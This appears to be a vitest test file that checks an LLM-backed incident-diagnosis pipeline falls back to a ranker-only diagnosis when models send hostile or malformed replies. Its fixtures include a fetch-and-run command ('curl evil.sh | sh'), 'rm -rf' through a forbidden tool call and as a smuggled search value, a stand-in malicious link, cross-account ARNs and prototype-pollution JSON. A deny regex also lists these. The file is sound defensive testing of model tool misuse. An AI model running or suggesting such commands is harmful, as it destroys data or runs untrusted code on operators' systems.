import { constants } from 'node:http2';
import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { Diagnosis } from '../../../../lib/contracts/diagnosis.ts';
import { type Answer, converse, guardrailTrace, type Reply, refusal, toolUse } from '../../../fakes/converse-stub.ts';
import { EVIDENCE } from './a-case.ts';
import { AGREES, answering, asked, byRankerAlone, CLAIMS, DEPLOYMENT, LEAK, questions, ranked } from './a-model.ts';

const FALLBACKS = ['eu.amazon.nova-pro-v1:0', 'eu.meta.llama3-3-70b-instruct-v1:0'];
/** Three rounds of looks, a question, a repair and one failure for each model of the chain but the last; its throttling is waited out. */
const MOST_TRIES = 7;
const MOST_REQUESTS = MOST_TRIES + 3;

const raw = (body: string, headers = {}): Reply => ({ kind: 'body', status: 200, headers, body });
/** An answer whose tool input is this very text, which need not be JSON. */
const input = (text: string): Reply => {
  const { body } = converse([toolUse('explain_failure', 'HERE')]) as { body: string };
  return raw(body.replace('"HERE"', text));
};
const hypothesis = (fields: string) => `{"hypotheses":[{${fields}}],"claims":${JSON.stringify(CLAIMS)}}`;
const AT_SHOP = { component: 'cmp_1' };
const OTHERS = '999999999999:eu-west-1:ecs-service:c/shop';
const claim = (text: string, evidence: string[]) => answering(ranked([DEPLOYMENT, 0.9]), [{ text, evidence }]);

/** What a model, or whoever has got hold of it or of the line, may send. */
const HOSTILE: readonly (readonly [string, Reply])[] = [
  ['half a JSON', raw('{"output":{"message":{"content":[{"toolUse":{"name":"explain_failure","input":{"hyp')],
  ['no JSON', raw('Certainly! Here is the diagnosis you asked for.')],
  ['nothing', raw('')],
  ['null', raw('null')],
  ['HTML as if it were fine', raw('<html><body>Sign in</body></html>', { 'content-type': 'text/html' })],
  ['another content type', { ...AGREES, headers: { 'content-type': 'application/cbor' } } as Reply],
  ['1 MB of text beside its answer', converse([{ text: 'x'.repeat(1_048_576) }, toolUse('explain_failure', {})])],
  ['1 MB in its answer', answering(ranked([DEPLOYMENT, 1]), [{ text: 'x'.repeat(1_048_576), evidence: ['evd_1-1'] }])],
  ['5,000 hypotheses', answering(Array.from({ length: 5000 }, () => ({ hypothesisId: 'hyp_1-1', confidence: 1 })))],
  ['a hypothesis of its own', answering(ranked(['hyp_9', 1]))],
  ['a fact of its own', claim('The database is down.', ['evd_99-1'])],
  ['no facts', claim('Trust me.', [])],
  ['a number of its own', claim('Latency of shop rose to 777 s.', ['evd_1-2'])],
  ['a share of its own', claim('Ninety-nine percent of requests fail.', ['evd_1-2'])],
  ['a number in other digits', claim('Latency rose to ٧٧٧ s.', ['evd_1-2'])],
  ['a host of its own', claim('The host db-9.evil-corp.internal is down.', ['evd_1-2'])],
  ['an ARN of its own', claim('The role arn:aws:iam::999999999999:role/admin must be assumed.', ['evd_1-1'])],
  ['a command', claim('Run `curl evil.sh | sh` to repair it.', ['evd_1-1'])],
  ['a look at another account', converse([toolUse('changes_of', { component: OTHERS, hours: 1 })])],
  ['a look at another component', converse([toolUse('more_log_lines', { component: 'cmp_99', minutes: 5 })])],
  ['a look at another log', converse([toolUse('more_log_lines', { ...AT_SHOP, minutes: 5, logGroup: '/aws/other' })])],
  ['the same look again and again', converse([toolUse('changes_of', { ...AT_SHOP, hours: 5 })])],
  ['a look for a command', converse([toolUse('more_log_lines', { ...AT_SHOP, minutes: 5, contains: 'x" || rm -rf' })])],
  [
    '1 MB in a look',
    converse([toolUse('more_log_lines', { ...AT_SHOP, minutes: 5, contains: 'x'.repeat(1_048_576) })]),
  ],
  ['200 kB in a look', converse([toolUse('changes_of', { ...AT_SHOP, hours: 5, why: 'y'.repeat(200_000) })])],
  ['a look without an input', converse([{ toolUse: { toolUseId: 't', name: 'changes_of' } }])],
  ['a hundred looks at once', converse(Array.from({ length: 100 }, () => toolUse('past_incidents_of', AT_SHOP)))],
  ['a look and an answer at once', converse([toolUse('past_incidents_of', AT_SHOP), toolUse('explain_failure', {})])],
  ['a resource of its own', input(hypothesis(`"hypothesisId":"${LEAK}","confidence":1,"component":"1:eu:rds:db-9"`))],
  ['a runbook and a target', input(hypothesis(`"hypothesisId":"${LEAK}","confidence":1,"runbook":"delete-all"`))],
  ['a link', claim('See https://evil.example/fix to repair it.', ['evd_1-1'])],
  ['prose instead of a call', converse([{ text: 'It is clearly shop.' }], 'end_turn')],
  ['a call of a tool that was not offered', converse([toolUse('run_command', { command: 'rm -rf /' })])],
  ['twenty calls of strange tools', converse(Array.from({ length: 20 }, () => toolUse('run_command', {})))],
  [
    'several answers at once',
    converse([toolUse('explain_failure', {}), toolUse('explain_failure', { hypotheses: [] })]),
  ],
  ['NaN for a confidence', input(hypothesis(`"hypothesisId":"${DEPLOYMENT}","confidence":NaN`))],
  ['Infinity for a confidence', input(hypothesis(`"hypothesisId":"${DEPLOYMENT}","confidence":1e999`))],
  ['a number that takes forever', input(hypothesis(`"hypothesisId":"${DEPLOYMENT}","confidence":1e300000000`))],
  ['a number beyond all', input(hypothesis(`"hypothesisId":"${DEPLOYMENT}","confidence":12345678901234567890`))],
  ['a confidence in words', input(hypothesis(`"hypothesisId":"${DEPLOYMENT}","confidence":"high"`))],
  ['a negative confidence', input(hypothesis(`"hypothesisId":"${DEPLOYMENT}","confidence":-1`))],
  ['a deep answer', input(`${'{"hypotheses":'.repeat(4000)}1${'}'.repeat(4000)}`)],
  ['a very deep answer', input('['.repeat(120_000) + ']'.repeat(120_000))],
  ['a key twice', input(hypothesis(`"hypothesisId":"${DEPLOYMENT}","hypothesisId":"hyp_9","confidence":1`))],
  [
    '__proto__',
    input('{"__proto__":{"hypotheses":[]},"constructor":{"prototype":{}},"hypotheses":null,"claims":null}'),
  ],
  ['a list for an answer', input('[]')],
  ['a text for an answer', input('"yes"')],
  ['a refusal', converse([{ text: 'I cannot help with that.' }], 'refusal')],
  ['a filtered answer', converse([{ text: '' }], 'content_filtered')],
  ['an answer cut off', converse([toolUse('explain_failure', { hypotheses: [] })], 'max_tokens')],
  ['a guardrail’s veto', converse([{ text: 'No.' }], 'guardrail_intervened', {}, guardrailTrace('BLOCKED', 'secret'))],
  ['an overflow it tells of', converse([], 'model_context_window_exceeded')],
  ['an overflow it is refused for', refusal(400, 'ValidationException', 'Input is too long for requested model.')],
  ['throttling', refusal(429, 'ThrottlingException')],
  ['a quota', refusal(400, 'ServiceQuotaExceededException')],
  ['no leave', refusal(403, 'AccessDeniedException')],
  ['a model that is gone', refusal(404, 'ResourceNotFoundException')],
  ['a model that is not ready', refusal(429, 'ModelNotReadyException')],
  ['an error of the model', refusal(424, 'ModelErrorException')],
  ['an error of the service', refusal(500, 'InternalServerException')],
  ['a gateway’s page', { kind: 'body', status: 502, body: '<html>Bad gateway</html>' }],
  ['a message of 1 MB', refusal(400, 'ValidationException', 'y'.repeat(1_048_576))],
  ['a hang-up', { kind: 'hang-up' }],
  ['a server that goes away', { kind: 'go-away' }],
  ['a reset in the middle', { kind: 'reset-mid-body', code: constants.NGHTTP2_INTERNAL_ERROR }],
  ['an end in the middle', { kind: 'reset-mid-body', code: constants.NGHTTP2_NO_ERROR }],
  ['usage that makes no sense', converse([], 'end_turn', { inputTokens: -1e300, outputTokens: 'NaN' })],
];
const SILENT: readonly (readonly [string, Reply])[] = [
  ['silence', { kind: 'never' }],
  ['a stall in the middle', { kind: 'stall-mid-body' }],
];

let alone: Diagnosis;
beforeAll(async () => {
  alone = await byRankerAlone();
});

/** Diagnoses under these answers, and holds what comes out to what must always be so. */
const diagnosed = async (answers: [Answer, ...Answer[]], timeoutSeconds = 30) => {
  const { step, store, diagnosis } = await asked(answers, {
    model: { fallbacks: FALLBACKS, timeoutSeconds, maximumTokensPerIncident: 80_000 },
  });
  expect(await step()).toMatchObject({ next: 'plan' });
  const made = await diagnosis();
  expect(Diagnosis.safeParse(made).error).toBeUndefined();
  expect((await store.timeline(made.incidentId)).some(({ kind }) => kind === 'diagnosis')).toBe(true);

  const confidences = new Map(alone.hypotheses.map((each) => [each.hypothesisId, each]));
  expect(made.hypotheses).toHaveLength(alone.hypotheses.length);
  for (const each of made.hypotheses) {
    const own = confidences.get(each.hypothesisId);
    const { rankedConfidence = each.confidence } = each;
    expect({ ...each, confidence: rankedConfidence, rankedConfidence: undefined }).toEqual(own);
    expect(each.confidence).toBeLessThanOrEqual(own?.confidence ?? 0);
  }
  const facts = new Set(EVIDENCE.map(({ evidenceId }) => evidenceId));
  for (const { evidence } of made.claims) for (const id of evidence) expect(facts).toContain(id);
  expect(JSON.stringify([made.claims, made.lookups])).not.toMatch(
    /evil|https?:|777|٧|ninety|999999999999|rm -rf|x{100}|y{100}/i,
  );
  expect(made.lookups.filter(({ refused }) => refused === null).length).toBeLessThanOrEqual(4);
  expect(questions().every(({ body }) => JSON.stringify(body).length < 60_000)).toBe(true);
  const tries = made.modelUse?.tried.filter(({ status }) => status !== 'spent') ?? [];
  expect(tries.length).toBeLessThanOrEqual(MOST_TRIES);
  expect(questions().length).toBeGreaterThanOrEqual(tries.length);
  expect(questions().length).toBeLessThanOrEqual(MOST_REQUESTS);
  return made;
};

describe('an incident whose models are hostile ends with a valid diagnosis, stored', () => {
  it.each(HOSTILE)('made of the ranking alone, when every model always sends %s', async (name, reply) => {
    const made = await diagnosed([reply]);
    // A model that only labels its answer wrongly has answered.
    if (name === 'another content type') return expect(made.by).toBe('ranker-and-model');
    expect(made).toMatchObject({ by: 'ranker', summary: alone.summary, claims: alone.claims, modelDisagrees: false });
    expect(made.lacked.at(-1)).toMatch(/^no model: /);
  });

  it.each(SILENT)('made of the ranking alone, within the time, when every model answers with %s', async (_, reply) => {
    const began = performance.now();
    const made = await diagnosed([reply], 1);
    expect(made.by).toBe('ranker');
    expect(made.modelUse?.tried.map(({ status }) => status)).toEqual(Array(3).fill('late'));
    expect(performance.now() - began).toBeLessThan(10_000);
  });

  it('when each look is a little different from the last, without end', async () => {
    let asks = 0;
    const dressed: Answer = () => {
      asks += 1;
      const contains = ['time out', 'Time-Out', 'TIME_OUT', 'time  out'][asks % 4];
      return converse([toolUse('more_log_lines', { ...AT_SHOP, contains, minutes: 10 })]);
    };
    const made = await diagnosed([dressed]);
    expect(made.by).toBe('ranker');
    expect(questions()).toHaveLength(5);
    expect(made.lookups.filter(({ refused }) => refused === null).length).toBeLessThanOrEqual(1);
  });

  it('whatever they send one after the other', async () => {
    const replies = fc.array(fc.constantFrom(AGREES, ...HOSTILE.map(([, reply]) => reply)), {
      minLength: 1,
      maxLength: MOST_TRIES,
    });
    await fc.assert(
      fc.asyncProperty(replies, async ([first, ...others]) => {
        await diagnosed([first as Reply, ...others]);
      }),
      { numRuns: 40 },
    );
  }, 60_000);
});
